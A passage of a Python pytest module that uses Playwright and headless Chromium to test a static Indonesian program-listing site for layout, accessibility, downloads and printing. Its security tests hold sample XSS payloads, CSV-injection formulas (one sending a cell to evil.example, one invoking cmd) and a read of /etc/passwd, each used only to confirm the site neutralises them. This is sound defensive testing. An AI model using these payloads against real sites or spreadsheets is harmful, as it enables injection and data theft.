"""The sample site in a real headless Chromium (Debian's, driven by Playwright):
each page type loads without console errors or requests off this machine, the
explorer's filters narrow the list and "download what I see" saves exactly the
rows shown, axe-core finds no serious or critical
accessibility violation, a screenshot of each page type is kept, the QR code on
a form's page scans off the screen, and each A4 poster prints on one A4 page.

The hostile Forms corpus (tests/fixtures/hostile_forms/) pulled and built: on every
page nothing runs (a page-level sentinel and the Content Security Policy's violation
events watch), no request leaves 127.0.0.1, every payload reads as the literal text
it was typed, no file outside the repository was read into the site, and its
downloads keep formulas inert. The policy blocks a script injected into a real page
as if escaping had failed, and Material's drawer, search and the explorer still work.

All browser tests live in this one module so one pytest worker owns the browser.
`make test` installs Chromium (apt) and axe-core (npm ci).
"""

from __future__ import annotations

import contextlib
import csv
import functools
import io
import json
import sys
import threading
import urllib.request
from collections import defaultdict
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlencode, urljoin, urlsplit

import openpyxl
import pypdf
import pytest
from playwright.sync_api import sync_playwright

from scripts.model import store
from scripts.site import build
from scripts.site.formats import number, rupiah, rupiah_compact
from scripts.sources import files as sources

from .helpers import (
    FIXTURES,
    FORMS,
    REPO,
    broken_links,
    build_data,
    build_fixture,
    config_with_forms,
    decode_qr,
    pull_code,
    site_forms,
)
from .privacy import HOSTILE_FORMS

CHROMIUM = "/usr/bin/chromium"
# Without the background-networking flags Chromium keeps calling home.
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
AXE = REPO / "node_modules" / "axe-core" / "axe.min.js"
# Installed in every page before its own scripts: records every call of what injected
# code calls first (alert …; not eval, which Playwright's own evaluate() uses) and every
# Content Security Policy violation, so a payload that runs is seen running, not
# guessed from the HTML.
SENTINEL = """
window.__ran = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = (...args) => window.__ran.push(`${name}: ${String(args[0]).slice(0, 80)}`);
}
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.effectiveDirective}: ${event.blockedURI || event.sample}`);
});
"""
SCREENSHOTS = REPO / "test-output" / "screenshots"


class QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):
        pass


class Server(ThreadingHTTPServer):
    def handle_error(self, request, client_address):
        # The browser dropped a request it no longer needed (it left the page).
        if not isinstance(sys.exc_info()[1], ConnectionError):
            super().handle_error(request, client_address)


@contextlib.contextmanager
def serve(site_dir: Path):
    """The site on 127.0.0.1 (a free port): yields its base URL."""
    handler = functools.partial(QuietHandler, directory=str(site_dir))
    server = Server(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def site(sample_site):
    """The sample site served: (base URL, data)."""
    data_dir, site_dir = sample_site
    with serve(site_dir) as base:
        yield base, store.load(data_dir)


@pytest.fixture(scope="module")
def browser():
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


class Visit:
    """A page with everything it logs and requests recorded."""

    def __init__(self, browser, url: str, **context_options):
        self.errors: list[str] = []
        self.offsite: list[str] = []
        context_options.setdefault("viewport", {"width": 390, "height": 844})
        self.context = browser.new_context(**context_options)
        self.context.add_init_script(SENTINEL)
        self.page = self.context.new_page()
        self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("dialog", self._dialog)
        self.page.route("**/*", self._route)
        self.page.goto(url, wait_until="load")

    def _dialog(self, dialog):
        self.errors.append(f"dialog: {dialog.message}")  # e.g. alert(1) from hostile data
        dialog.dismiss()

    def _route(self, route):
        if urlsplit(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            self.offsite.append(route.request.url)
            route.abort()

    def ran(self) -> list[str]:
        """What injected code ran or tried to run on the current page (see SENTINEL)."""
        return self.page.evaluate("[...window.__ran, ...window.__violations]")

    def close(self):
        self.context.close()


# One page of every type the site has, filled in from the first program of the data.
PAGE_TYPES = {
    "beranda": "",
    "sektor-semua": "sektor/",
    "sektor": "sektor/{sector}/",
    "anggota-semua": "anggota/",
    "anggota": "anggota/{member}/",
    "program": "program/{id}/",
    "penjelajah": "program/",
    "kebutuhan": "kebutuhan/",
    "kepatuhan": "kepatuhan/",
    "kepatuhan-tahun": "kepatuhan/{year}/",
    "laporan-semua": "laporan/",
    "laporan": "laporan/{year}/",
    "data-terbuka": "data/",
    "pembaruan": "pembaruan/",
    "bergabung": "bergabung/",
    "lapor": "lapor/",
    "poster": "bergabung/poster/",
    "tentang": "tentang/",
    "cari": "cari/?q=posyandu",
    "404": "404.html",
}


def page_url(site, kind: str) -> str:
    base, data = site[:2]
    return base + PAGE_TYPES[kind].format(**data["programs"][0])


# Elements of the page content wider than their own box (none may be), leaving out
# what is hidden for screen readers only (a 1 px clipped box, e.g. a phone card's thead).
OVERFLOWING = """() => [...document.querySelectorAll('.md-content *')]
  .filter(e => e.clientWidth > 1 && e.scrollWidth > e.clientWidth + 1)
  .map(e => `${e.tagName.toLowerCase()}.${e.className}: ${e.scrollWidth} > ${e.clientWidth}`)"""


@pytest.mark.parametrize(("width", "height"), [(360, 800), (1280, 900)])
@pytest.mark.parametrize("kind", list(PAGE_TYPES))
def test_page_loads_cleanly_and_is_accessible(browser, site, kind, width, height):
    """Every page type on a phone and a desktop: nothing in its content scrolls
    sideways, axe-core finds no serious or critical violation, no console error,
    no request off this machine; its screenshot is kept for a person to look at."""
    visit = Visit(browser, page_url(site, kind), viewport={"width": width, "height": height})
    try:
        page = visit.page
        assert page.locator("footer time").inner_text().strip()
        if kind == "cari":  # its results, checked and seen as a reader sees them
            page.wait_for_function(SEARCH_ANSWERED)
            assert page.locator(".search-results__item").count() > 0
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(SCREENSHOTS / f"{kind}-{width}.png"), full_page=True)
        assert page.evaluate(OVERFLOWING) == []
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        # Evaluated, not added as a <script>: the page's policy refuses inline scripts.
        page.evaluate(AXE.read_text(encoding="utf-8"))
        result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
        serious = [
            (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
            for v in result["violations"]
            if v["impact"] in ("serious", "critical")
        ]
        assert serious == []
        assert visit.errors == []
        assert visit.offsite == []
        assert visit.ran() == []
    finally:
        visit.close()


def shown(page) -> tuple[list[str], dict[str, str]]:
    """The explorer once it has shown its selection: (program ids listed, totals)."""
    page.wait_for_selector("#explorer[data-shown]")
    hrefs = page.locator("#explorer-list a.program-card__title").evaluate_all(
        "links => links.map(a => a.getAttribute('href'))"
    )
    ids = [urlsplit(h).path.rstrip("/").rsplit("/", 1)[-1] for h in hrefs]
    figures = page.locator("#explorer-summary [data-figure]").evaluate_all(
        "els => Object.fromEntries(els.map(e => [e.dataset.figure, e.textContent]))"
    )
    return ids, figures


def then(page, action) -> tuple[list[str], dict[str, str]]:
    """Do `action` on the explorer and wait until it has shown the new selection."""
    before = page.get_attribute("#explorer", "data-shown")
    action()
    page.wait_for_function(
        f"document.getElementById('explorer').dataset.shown !== {json.dumps(before)}"
    )
    return shown(page)


def selected(data, **chosen) -> list[dict]:
    """The programs of data/ a selection keeps, in the explorer's default order."""
    keep = [
        p
        for p in data["programs"]
        if all(
            (value in p["kecamatan"]) if key == "kecamatan" else str(p[key]) == value
            for key, value in chosen.items()
        )
    ]
    return sorted(keep, key=lambda p: (-p["year"], p["title"].casefold(), p["id"]))


def totals(programs: list[dict]) -> dict[str, str]:
    amounts = [p["amount"] for p in programs if p["amount"] is not None]
    people = [p["beneficiaries"] for p in programs if p["beneficiaries"] is not None]
    return {
        "selection-programs": number(len(programs)),
        "selection-amount-compact": rupiah_compact(sum(amounts) if amounts else None),
        "selection-amount": rupiah(sum(amounts) if amounts else None),
        "selection-beneficiaries": number(sum(people) if people else None),
        "selection-members": number(len({p["member"] for p in programs})),
    }


def test_explorer_totals_are_the_sums_of_data_for_any_selection(browser, site):
    base, data = site
    first = data["programs"][0]
    selections = [
        {"sector": first["sector"]},
        {"kecamatan": "serang", "year": str(first["year"])},
        {"status": "selesai", "member": first["member"]},
    ]
    names = {"sector": "sektor", "kecamatan": "kecamatan", "year": "tahun", "status": "status"}
    visit = Visit(browser, f"{base}program/")
    try:
        page = visit.page
        assert shown(page)[1] == totals(data["programs"])
        for chosen in selections:
            query = urlencode({names.get(k, "anggota"): v for k, v in chosen.items()})
            page.goto(f"{base}program/?{query}")
            ids, figures = shown(page)
            expected = selected(data, **chosen)
            assert figures == totals(expected), chosen
            assert ids == [p["id"] for p in expected[:20]], chosen
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_filters_sort_page_and_share_their_address(browser, site):
    base, data = site
    sector = data["programs"][0]["sector"]
    visit = Visit(browser, f"{base}program/", viewport={"width": 1280, "height": 900})
    try:
        page = visit.page
        shown(page)
        _, figures = then(page, lambda: page.select_option("#f-sektor", sector))
        in_sector = selected(data, sector=sector)
        assert figures["selection-programs"] == number(len(in_sector))
        # Beside each year, how many programs of this sector it would give.
        for year in {p["year"] for p in data["programs"]}:
            n = sum(1 for p in in_sector if p["year"] == year)
            assert page.locator(f"#f-tahun option[value='{year}']").inner_text().endswith(f"({n})")
        by_value, _ = then(page, lambda: page.select_option("#f-urut", "nilai"))
        amounts = {p["id"]: p["amount"] for p in data["programs"]}
        values = [amounts[i] if amounts[i] is not None else -1 for i in by_value]
        assert values == sorted(values, reverse=True)
        by_name, _ = then(page, lambda: page.select_option("#f-urut", "nama"))
        titles = {p["id"]: p["title"].casefold() for p in data["programs"]}
        assert [titles[i] for i in by_name] == sorted(titles[i] for i in by_name)
        assert "sektor=" + sector in page.url and "urut=nama" in page.url
        # The address alone gives the same selection, in a new page.
        again = visit.context.new_page()
        again.goto(page.url)
        assert shown(again) == shown(page)
        again.close()
        # Back returns to the selection before.
        assert then(page, page.go_back)[0] == by_value
        # A page at a time: the second page follows the first.
        page.goto(f"{base}program/")
        first_page, _ = shown(page)
        second_page, _ = then(page, lambda: page.click("#explorer-next"))
        order = [p["id"] for p in selected(data)]
        assert first_page + second_page == order[:40] and "hal=2" in page.url
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_chips_no_match_and_unknown_values(browser, site):
    base, data = site
    visit = Visit(browser, f"{base}program/?sektor=tidak-ada&tahun=1999")
    try:
        page = visit.page
        ids, figures = shown(page)
        assert figures == totals(data["programs"])  # unknown values are left out …
        notice = page.inner_text("#explorer-notice")
        assert "Sektor “tidak-ada”" in notice and "Tahun “1999”" in notice  # … and named
        page.goto(f"{base}program/?sektor=lingkungan&status=direncanakan&kecamatan=kasemen&q=zzz")
        ids, figures = shown(page)
        assert ids == [] and figures["selection-programs"] == "0"
        assert page.locator("#explorer-empty").is_visible()
        assert page.locator("#explorer-chips .chip").count() == 5  # four filters and all
        ids, figures = then(page, lambda: page.click("#explorer-reset"))
        assert figures == totals(data["programs"]) and page.url.endswith("/program/")
        page.click("#explorer-fold summary")  # on a phone the filters are folded
        then(page, lambda: page.select_option("#f-status", "selesai"))
        ids, figures = then(page, lambda: page.click("#explorer-chips .chip >> nth=0"))
        assert figures == totals(data["programs"])
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_on_a_phone_starts_with_results_and_controls_a_finger_can_use(browser, site):
    base, _ = site
    visit = Visit(browser, f"{base}program/", viewport={"width": 360, "height": 800})
    try:
        page = visit.page
        shown(page)
        assert not page.locator("#explorer-fold").evaluate("d => d.open")
        assert page.locator(".program-card").first.bounding_box()["y"] < 800
        page.click("#explorer-fold summary")
        controls = page.locator(
            "#explorer-filters select, #explorer-filters input, #explorer summary"
        )
        heights = controls.evaluate_all("els => els.map(e => e.getBoundingClientRect().height)")
        assert heights and min(heights) >= 44
    finally:
        visit.close()


def test_explorer_without_javascript_lists_the_newest_and_every_list(browser, site):
    base, data = site
    visit = Visit(browser, f"{base}program/", java_script_enabled=False)
    try:
        page = visit.page
        assert page.locator("#explorer-filters").is_hidden()
        links = page.locator("#explorer-list a").all()  # no script runs, evaluate() included
        hrefs = [urljoin(page.url, a.get_attribute("href")) for a in links]
        assert [urlsplit(h).path for h in hrefs] == [
            f"/program/{p['id']}/" for p in selected(data)[:20]
        ]
        for key in {p["sector"] for p in data["programs"]}:
            assert page.locator(f".md-content a[href$='sektor/{key}/']").count()
        assert page.locator(".md-content a[href$='data/']").count()
    finally:
        visit.close()


def read_csv(raw: bytes) -> list[dict]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def download_shown(page, tmp_path) -> list[dict]:
    """Press "Unduh yang tampil (CSV)": the rows saved."""
    with page.expect_download() as download:
        page.click("#explorer-download")
    saved = tmp_path / download.value.suggested_filename
    download.value.save_as(saved)
    return read_csv(saved.read_bytes())


def published_rows(base: str) -> dict[str, dict]:
    with urllib.request.urlopen(f"{base}data/programs.csv") as response:
        return {row["id"]: row for row in read_csv(response.read())}


def test_explorer_downloads_every_row_of_the_selection(browser, site, tmp_path):
    base, data = site
    program = data["programs"][0]
    query = f"sektor={program['sector']}&tahun={program['year']}"
    visit = Visit(browser, f"{base}program/?{query}", accept_downloads=True)
    try:
        page = visit.page
        shown(page)
        rows = download_shown(page, tmp_path)
        expected = selected(data, sector=program["sector"], year=str(program["year"]))
        assert sorted(row["id"] for row in rows) == sorted(p["id"] for p in expected)
        published = published_rows(base)
        assert rows == [published[row["id"]] for row in rows]  # programs.csv's columns and cells
        page.goto(f"{base}program/")  # more than a page: every row, not the twenty shown
        shown(page)
        assert len(download_shown(page, tmp_path)) == len(data["programs"]) > 20
        page.goto(f"{base}program/?q=zzz+tidak+ada")
        shown(page)
        assert download_shown(page, tmp_path) == []  # the header alone
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def test_explorer_download_neutralises_formulas_as_programs_csv_does(browser, tmp_path):
    data = store.load(FIXTURES / "site")
    data["programs"][0].update(
        title='=HYPERLINK("http://x","y")',
        description='+1, "dua"\nbaris dua',
        partner="@SUM(A1)",
        location="\t-2",
    )
    with serve(build_data(tmp_path, data)) as base:
        visit = Visit(browser, f"{base}program/", accept_downloads=True)
        try:
            shown(visit.page)
            rows = download_shown(visit.page, tmp_path)
            assert rows == [published_rows(base)[row["id"]] for row in rows]
            (hostile,) = [row for row in rows if row["id"] == data["programs"][0]["id"]]
            assert hostile["title"] == '\'=HYPERLINK("http://x","y")'
            assert hostile["location"] == "'\t-2"
            assert visit.errors == [] and visit.offsite == []
        finally:
            visit.close()


def test_annual_report_prints_on_a4_without_the_site_around_it(browser, site):
    base, data = site
    year = data["programs"][0]["year"]
    visit = Visit(browser, f"{base}laporan/{year}/")
    try:
        page = visit.page
        reader = pypdf.PdfReader(io.BytesIO(page.pdf(format="A4", prefer_css_page_size=True)))
        box = reader.pages[0].mediabox
        assert abs(float(box.width) - 595) <= 1 and abs(float(box.height) - 842) <= 1
        first = " ".join(reader.pages[0].extract_text().split())
        assert f"Laporan Tahunan {year}" in first
        assert page.locator('[data-figure="amount"]').inner_text() in first
        page.emulate_media(media="print")
        assert page.locator(".md-header, .md-sidebar, .md-footer, .report-tools").evaluate_all(
            "nodes => nodes.every(n => getComputedStyle(n).display === 'none')"
        )
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


# The search page has shown its answer (results, or that there are none).
SEARCH_ANSWERED = (
    "() => !/^(Memuat|Mencari|Pencarian belum)/.test("
    "document.getElementById('search-status').textContent)"
)


def search(page, base: str, query: str = "", **filters):
    """The search page asked for `query` (and filters) through its address, once its
    answer is shown: (the status line, the results' texts, their links)."""
    params = urlencode({"q": query, **filters})
    page.goto(f"{base}cari/?{params}", wait_until="load")
    page.wait_for_function(SEARCH_ANSWERED)
    items = page.locator(".search-results__item")
    links = items.locator("a.search-results__title")
    hrefs = [urlsplit(h).path for h in links.evaluate_all("l => l.map(a => a.href)")]
    return page.inner_text("#search-status"), items.all_inner_texts(), hrefs


def test_hostile_data_runs_nothing_even_in_search_results(browser, tmp_path):
    _, site_dir = build_fixture("hostile", tmp_path)
    with serve(site_dir) as base:
        visit = Visit(browser, f"{base}anggota/hostile-member/")
        try:
            page = visit.page
            for path in ("program/hostile-member-program/", "kebutuhan/", "program/"):
                page.goto(base + path, wait_until="load")
            for query in ("config", "alert", "script"):
                _, texts, _ = search(page, base, query)
                assert texts, query
                assert page.locator(".search-results img, .search-results script").count() == 0
            assert any(
                "<script>alert(1)</script>" in text for text in search(page, base, "alert")[1]
            )
            assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
        finally:
            visit.close()


def test_search_finds_the_posyandu_program_first_and_stems_indonesian(browser, site):
    base, data = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        _, _, hrefs = search(page, base, "posyandu")
        posyandu = {
            f"/program/{p['id']}/" for p in data["programs"] if "posyandu" in p["title"].lower()
        }
        assert hrefs[0] in posyandu
        # "mendidik" is not on the Pendidikan page; its stem (didik) is.
        _, _, hrefs = search(page, base, "mendidik")
        assert "/sektor/pendidikan/" in hrefs
        sector_page = page.context.request.get(f"{base}sektor/pendidikan/").text().lower()
        assert "mendidik" not in sector_page and "pendidikan" in sector_page
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


OPEN_FORMS = site_forms(FORMS)


@pytest.mark.parametrize("key", ["members", "programs"])
def test_qr_code_on_the_page_scans_off_the_screen(browser, site, key, tmp_path):
    base, _ = site
    form = OPEN_FORMS[key]
    visit = Visit(browser, f"{base}{form.page}")
    try:
        shot = tmp_path / "qr.png"
        visit.page.locator(".form-link__qr svg").screenshot(path=str(shot))
        assert decode_qr(shot) == [form.url]
    finally:
        visit.close()


# The printable area of A4 with the poster's 15 mm margins, in CSS pixels.
PRINTABLE = {"width": round(180 / 25.4 * 96), "height": round(267 / 25.4 * 96)}


@pytest.mark.parametrize("key", ["members", "programs"])
def test_poster_prints_on_one_a4_page_with_nothing_cut(browser, site, key):
    base, _ = site
    form = OPEN_FORMS[key]
    visit = Visit(browser, f"{base}{form.page}poster/")
    try:
        page = visit.page
        reader = pypdf.PdfReader(io.BytesIO(page.pdf(format="A4", prefer_css_page_size=True)))
        assert len(reader.pages) == 1
        box = reader.pages[0].mediabox
        assert abs(float(box.width) - 595) <= 1 and abs(float(box.height) - 842) <= 1
        text = " ".join(reader.pages[0].extract_text().split())
        assert form.call in text and form.link_text in text
        # Laid out as on paper: every part of the poster within the printable area.
        page.set_viewport_size(PRINTABLE)
        page.emulate_media(media="print")
        boxes = page.locator(".poster > *").evaluate_all(
            "nodes => nodes.map(n => n.getBoundingClientRect().toJSON())"
        )
        assert len(boxes) >= 6
        for part in boxes:
            assert part["left"] >= 0 and part["right"] <= PRINTABLE["width"], part
            assert part["top"] >= 0 and part["bottom"] <= PRINTABLE["height"], part
        assert page.locator(".md-header, .md-footer, .poster-tools").evaluate_all(
            "nodes => nodes.every(n => getComputedStyle(n).display === 'none')"
        )
        SCREENSHOTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(
            path=str(SCREENSHOTS / f"poster-{form.page.strip('/')}-cetak.png"), full_page=True
        )
        assert visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


# --- the hostile Forms corpus, and the Content Security Policy --------------------

# What spreadsheets run as a formula (OWASP, "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_forms_site(tmp_path_factory):
    """The hostile Forms corpus pulled, built and served: (base URL, data, site dir)."""
    root = tmp_path_factory.mktemp("hostile-forms")
    paths = {key: HOSTILE_FORMS / f"{key}.csv" for key in sources.SHEET_KEYS}
    assert pull_code("csv", root / "data", paths=paths) == 0
    site_dir = root / "site"
    config = config_with_forms(root, FORMS)
    assert build.build(root / "data", site_dir, root / "build", config) == 0
    with serve(site_dir) as base:
        yield base, store.load(root / "data"), site_dir


def shown_texts(data: dict) -> dict[str, list[str]]:
    """Page path → the values of data/ it shows as text."""
    shown = defaultdict(list)
    for m in data["members"]:
        keys = ("name", "legal_form", "industry", "address", "kelurahan")
        shown[f"anggota/{m['id']}/"] += [m[k] for k in keys if m[k]]
        shown[f"anggota/{m['id']}/"] += [
            m["contact"][k] for k in ("name", "title") if m.get("contact")
        ]
        shown["anggota/"].append(m["name"])
    for p in data["programs"]:
        keys = ("title", "description", "location", "partner")
        shown[f"program/{p['id']}/"] += [p[k] for k in keys if p[k]]
        shown["program/"].append(p["title"])
    for need in data["needs"]:
        shown["kebutuhan/"] += [need[k] for k in ("title", "proposer", "description") if need[k]]
    return shown


def _words(text: str) -> str:
    return " ".join(text.split())


def test_hostile_forms_run_nothing_and_read_as_typed_on_every_page(browser, hostile_forms_site):
    base, data, site_dir = hostile_forms_site
    passwd = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
    for path in site_dir.rglob("*"):
        # No include of a file outside the repository ever ran.
        assert not path.is_file() or passwd.encode() not in path.read_bytes(), path
    shown = shown_texts(data)
    # The page titles come from the front matter: a broken one would fall back to the file name.
    titles = {f"anggota/{m['id']}/": m["name"] for m in data["members"]}
    titles |= {f"program/{p['id']}/": p["title"] for p in data["programs"]}
    urls = sorted(
        str(p.relative_to(site_dir)).removesuffix("index.html") for p in site_dir.rglob("*.html")
    )
    assert len(urls) > 40 and all(key in urls for key in shown)
    visit = Visit(browser, base)  # one context and page for them all: fast
    try:
        page = visit.page
        for url in urls:
            page.goto(base + url, wait_until="domcontentloaded")
            assert visit.ran() == [], url
            if url in shown:  # laid out as a reader sees it: slower, so where data shows
                text = _words(page.inner_text("body"))
                missing = [value for value in shown[url] if _words(value) not in text]
                assert missing == [], url
            if url in titles:
                assert _words(page.title()).startswith(_words(titles[url]) + " - "), url
        _, texts, _ = search(page, base, "alert")  # results are built from the index
        assert any("<script>" in text for text in texts)
        assert page.locator(".search-results :is(img, script, iframe, svg[onload])").count() == 0
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


def _cells(path: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for cell in row]


def test_hostile_forms_downloads_keep_formulas_inert(browser, hostile_forms_site, tmp_path):
    base, data, site_dir = hostile_forms_site
    downloads = site_dir / "data"
    csv_cells = [cell for path in downloads.rglob("*.csv") for cell in _cells(path)]
    assert len(list(downloads.rglob("*.csv"))) > 10
    assert [cell for cell in csv_cells if cell.startswith(FORMULA_START)] == []
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Klik")' in csv_cells
    workbooks = list(downloads.rglob("*.xlsx"))
    assert len(workbooks) >= 2  # the open data and an annual report
    strings = []
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for cell in (c for row in sheet.iter_rows() for c in row if c.value is not None):
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
                    strings.append(cell.value)
    assert "=1+1" in strings and "+cmd|' /C calc'!A0" in strings
    programs = json.loads((downloads / "programs.json").read_text(encoding="utf-8"))
    assert {p["title"] for p in programs} == {p["title"] for p in data["programs"]}  # as typed
    visit = Visit(browser, f"{base}program/", accept_downloads=True)
    try:
        shown(visit.page)
        rows = download_shown(visit.page, tmp_path)
        assert len(rows) == len(data["programs"])
        saved = [cell for row in rows for cell in row.values()]
        assert [cell for cell in saved if cell.startswith(FORMULA_START)] == []
        assert "'=1+1" in saved
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


# Injected into a built page's content as if escaping had failed; the policy must stop it.
INJECTED = (
    '<script>window.__pwned = "script"</script>'
    "<img src=x onerror=\"window.__pwned = 'onerror'\">"
    "<a id=injected href=\"javascript:window.__pwned = 'link'\">x</a>"
    '<img src="https://evil.example/x.png">'
)


def test_the_policy_blocks_an_injected_script_and_lets_material_work(browser, site):
    base, data = site
    visit = Visit(browser, base)
    try:
        page = visit.page
        article = '<article class="md-content__inner md-typeset">'

        def inject(route):
            response = route.fetch()
            body = response.text()
            assert article in body
            route.fulfill(response=response, body=body.replace(article, article + INJECTED))

        page.route(f"{base}anggota/", inject)  # after Visit's route: tried first
        page.goto(f"{base}anggota/", wait_until="load")
        page.click("#injected")
        assert page.evaluate("window.__pwned") is None
        blocked = visit.ran()
        assert {v.split(":")[0] for v in blocked} == {
            "script-src-elem",
            "script-src-attr",
            "img-src",
        }
        assert visit.offsite == []  # refused by the policy before any request
        page.unroute(f"{base}anggota/")

        visit.errors.clear()
        page.goto(base, wait_until="load")  # Material under the policy: the drawer …
        page.click("label.md-header__button[for=__drawer]")
        page.locator(".md-nav--primary").first.wait_for(state="visible")
        page.keyboard.press("Escape")
        page.goto(f"{base}sektor/", wait_until="load")  # … the search (WebAssembly) …
        page.click(".site-search__link")
        page.locator("#cari-q").wait_for()  # shown by its script (press_* would not wait)
        page.locator("#cari-q").press_sequentially("kesehatan", delay=20)
        page.locator(".search-results__item").first.wait_for()
        page.goto(f"{base}program/", wait_until="load")  # … and the explorer's filters
        shown(page)
        page.click("#explorer-fold summary")
        then(page, lambda: page.select_option("#f-sektor", data["programs"][0]["sector"]))
        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
    finally:
        visit.close()


MONEY = '.money, [data-figure$="amount"], [data-figure="open-cost"]'
MONEY_ON_ONE_LINE = (
    """() => [...document.querySelector('.md-content').querySelectorAll(
  '"""
    + MONEY
    + """')].filter(e => {
  const box = e.getBoundingClientRect(), card = (e.closest('li, td') || e.parentElement)
    .getBoundingClientRect();
  return e.getClientRects().length !== 1 || box.right > card.right + 1 || box.left < card.left - 1;
}).map(e => e.textContent)"""
)


@pytest.fixture(scope="module")
def extreme_site(tmp_path_factory):
    """The hand-made data with amounts of Rp999 triliun and Rp1, and a member name and a
    program title as long as the data contract allows (200 characters), the title with
    a 50-character unbroken word."""
    root = tmp_path_factory.mktemp("extreme")
    data = store.load(FIXTURES / "site")
    data["programs"][0]["amount"] = 999 * 10**12
    data["programs"][1]["amount"] = 1
    data["programs"][2]["title"] = ("Program " + "Pemberdayaan" * 4 + "Ma " + "kat " * 60)[:200]
    data["members"][0]["name"] = ("PT " + "Sentosa Makmur Jaya Abadi " * 12)[:200].strip()
    with serve(build_data(root, data)) as base:
        yield base, data


@pytest.mark.parametrize("width", [360, 768, 1024, 1280])
def test_money_figures_stay_on_one_line_at_every_width(browser, extreme_site, width):
    """Issue 12, defect 1: "Rp38.416.00 / 0.000" no more, at any width."""
    base, data = extreme_site
    page = browser.new_page(viewport={"width": width, "height": 900})
    try:
        program, long_title = data["programs"][0], data["programs"][2]
        pages = ("", "laporan/2025/", "kebutuhan/", f"sektor/{program['sector']}/", "anggota/")
        pages += (f"anggota/{data['members'][0]['id']}/", f"program/{long_title['id']}/")
        for path in pages:
            page.goto(base + path)
            assert page.evaluate(MONEY_ON_ONE_LINE) == [], (width, path)
            assert page.evaluate("document.documentElement.scrollWidth") <= width, (width, path)
        page.goto(base)
        assert page.locator(".md-content .money").count() >= 2  # the selector is not vacuous
        assert "Rp999 triliun" in page.inner_text("[data-figure=amount-compact]")
    finally:
        page.close()


TABLE_PAGES = ["", "anggota/", "program/", "kepatuhan/", "laporan/", "laporan/2025/", "sektor/"]


@pytest.mark.parametrize("width", [360, 1280])
def test_tables_read_on_a_phone_with_the_money_in_sight(browser, site, width):
    """Issue 12, defect 3: no table needs sideways scrolling, and the value column is
    on screen: on a phone each row is a card of "label: value"."""
    base, _ = site
    page = browser.new_page(viewport={"width": width, "height": 800})
    try:
        for path in TABLE_PAGES:
            page.goto(base + path)
            wide = page.evaluate(
                "[...document.querySelectorAll('.md-content .table-wrap, .md-content table')]"
                ".filter(e => e.scrollWidth > e.clientWidth + 1).length"
            )
            assert wide == 0, (width, path)
            money = page.locator('.md-content td[data-label="Nilai kontribusi"]').first
            if money.count():
                box = money.bounding_box()
                assert box["x"] >= 0 and box["x"] + box["width"] <= width, (width, path)
    finally:
        page.close()


def _uneven(kind: str) -> dict:
    """Data shaped unlike the sample: "one" holds a single program; "many" one member
    with 400 programs in 2023 and 2025 and none in 2024 (the reporting year)."""
    data = store.load(FIXTURES / "site")
    first = data["programs"][0]
    if kind == "one":
        data["members"] = [m for m in data["members"] if m["id"] == first["member"]]
        data["programs"], data["needs"] = [first | {"need": None}], []
        return data
    data["programs"] = [
        first
        | {
            "need": None,
            "id": f"{first['member']}-program-{n:03}",
            "title": f"Program {n}",
            "year": 2023 if n % 2 else 2025,
            "reported": "2023-12-01" if n % 2 else "2025-07-01",
        }
        for n in range(400)
    ]
    return data


@pytest.fixture(scope="module", params=["one", "many"])
def uneven_site(request, tmp_path_factory):
    data = _uneven(request.param)
    settings = {"reporting_year": 2024} if request.param == "many" else {}
    site_dir = build_data(tmp_path_factory.mktemp(request.param), data, **settings)
    with serve(site_dir) as base:
        yield base, data, site_dir


def test_uneven_data_keeps_the_layout_and_computes_nothing_from_missing(browser, uneven_site):
    """Issue 12, bad input: a single program; 400 programs of one member with a year
    between without any. Every page type at 360 px: nothing scrolls sideways, money
    on one line, and no "NaN", "None" or invented Rp0 anywhere."""
    page = browser.new_page(viewport={"width": 360, "height": 800})
    try:
        for kind in PAGE_TYPES:
